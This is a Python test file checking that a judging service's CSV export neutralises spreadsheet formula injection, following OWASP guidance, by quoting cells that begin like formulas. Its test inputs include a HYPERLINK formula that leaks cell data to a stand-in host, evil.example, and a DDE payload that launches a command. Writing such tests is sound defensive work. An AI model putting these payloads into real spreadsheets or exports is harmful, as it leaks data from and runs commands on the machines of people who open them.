"""CSV exports open in a spreadsheet as text: no cell starting like a formula is live.

OWASP "CSV Injection": a cell starting with `=`, `+`, `-`, `@`, tab or CR gets a leading `'`.
"""

import csv
import io
from typing import Any

import httpx
import pytest

from judge_service.csv_cells import FORMULA_STARTS, csv_cell
from judge_service.demo.sample import sample_pairs
from tests.conftest import create_run

# What a user may name a pair: each a formula in a spreadsheet but for the quote.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\tindented",
    "\rreturn",
]
PLAIN = ["plain", "a=b", "'quoted", " =spaced", "two\r=lines"]  # the last: one quoted cell


@pytest.mark.parametrize("text", FORMULAS)
def test_text_starting_like_a_formula_is_quoted(text: str) -> None:
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", [*PLAIN, "", -0.5, -3, 0, None, True])
def test_other_values_are_kept(value: Any) -> None:
    assert csv_cell(value) is value


def test_judgments_csv_quotes_formulas_and_keeps_everything_else(pg_api: httpx.Client) -> None:
    run = create_run(pg_api, ["sim"])
    names = FORMULAS + PLAIN
    pairs = sample_pairs(len(names))
    for pair, name in zip(pairs, names, strict=True):
        pair["external_id"] = name
    response = pg_api.post(f"/v1/runs/{run['id']}/pairs", json={"pairs": pairs})
    assert response.status_code == 202, response.text

    exported = pg_api.get(f"/v1/runs/{run['id']}/judgments", params={"format": "csv"})
    assert exported.status_code == 200
    rows = list(csv.DictReader(io.StringIO(exported.text, newline="")))
    lines = pg_api.get(f"/v1/runs/{run['id']}/judgments").text.splitlines()
    assert len(rows) == len(lines) == len(names) * 2  # two orders per pair
    expected = {name: ("'" + name if name in FORMULAS else name) for name in names}
    assert sorted(row["external_id"] for row in rows) == sorted(2 * list(expected.values()))
    for row in rows:
        assert row["id"].isdigit() and row["attempts"].isdigit()
        for cell in row.values():
            assert not cell.startswith(FORMULA_STARTS) or is_number(cell), row


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
